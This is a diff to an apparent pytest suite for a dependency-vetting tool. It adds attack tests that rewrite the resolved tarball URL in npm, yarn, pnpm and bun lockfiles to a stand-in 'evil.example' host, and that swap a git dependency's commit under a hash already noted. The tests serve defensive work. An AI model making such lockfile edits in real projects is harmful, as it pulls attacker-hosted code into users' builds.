@@ -22,7 +22,16 @@ from typing import Final
 import pytest
 
 from attacks.incidents import CHALK_AND_DEBUG, CROSSENV_AND_SIBLINGS, INCIDENTS, Incident
-from attacks.lockfiles import NAMES, PINS, WRITERS, Package, digest, npm_version_2
+from attacks.lockfiles import (
+    NAMES,
+    PINS,
+    REGISTRY,
+    WRITERS,
+    YARN_REGISTRY,
+    Package,
+    digest,
+    npm_version_2,
+)
 from attacks.world import World, Worlds, note_text, worlds
 from conftest import GitRepo
 from story import HookRepository
@@ -874,6 +883,51 @@ OURS: Final = Package(name="@acme/billing", version="9.9.9")
 
 def with_first_party(world: World) -> None:
     world.append(".vetting/config.toml", FIRST_PARTY)
+
+
+@attack("what a note vouches for, fetched from another host", "lockfile-source",
+        clients=("npm", "yarn-classic", "pnpm", "bun"))  # fmt: skip
+def _noted_from_elsewhere(world: World) -> None:
+    """The note's hash is the registry's: no one accepted this source."""
+    with_good(world)
+    url = "https://evil.example/brought-along-2.0.1.tgz"
+    if world.client == "pnpm":
+        own = f"{{integrity: {BROUGHT.integrity}"
+        world.edit(world.lockfile, own, f"{own}, tarball: '{url}'")
+    elif world.client == "bun":
+        world.edit(world.lockfile, '["brought-along@2.0.1", ""', f'["brought-along@2.0.1", "{url}"')
+    else:
+        known = BROUGHT.url(YARN_REGISTRY if world.client == "yarn-classic" else REGISTRY)
+        world.edit(world.lockfile, known, url)
+
+
+def _git_dependency(world: World, commit: str) -> Package:
+    tool = Package(name="tool", version="1.0.0")
+    source = f"git+ssh://git@github.com/acme/tool.git#{commit}"
+    entry = {"version": "1.0.0", "resolved": source, "integrity": tool.integrity}
+
+    def lock(data: dict[str, dict[str, dict[str, object]]]) -> None:
+        data["packages"]["node_modules/tool"] = dict(entry)
+        asked = data["packages"][""]["dependencies"]
+        assert isinstance(asked, dict)
+        asked["tool"] = "github:acme/tool"
+
+    world.json("package.json", lambda data: data["dependencies"].update(tool="github:acme/tool"))
+    world.json(world.lockfile, lock)
+    return tool
+
+
+def with_git_dependency(world: World) -> None:
+    commit = "0123456789abcdef0123456789abcdef01234567"
+    tool = _git_dependency(world, commit)
+    world.write_note(tool, resolved=f"git+ssh://git@github.com/acme/tool.git#{commit}")
+
+
+@attack("a git dependency moved to another commit under the noted hash", "lockfile-source",
+        before=with_git_dependency)  # fmt: skip
+def _moved_commit(world: World) -> None:
+    """npm holds what it clones against no hash."""
+    _git_dependency(world, "76543210fedcba9876543210fedcba9876543210")
 
 
 @attack("a git dependency that is whatever its branch is, with a note", "lockfile-source",
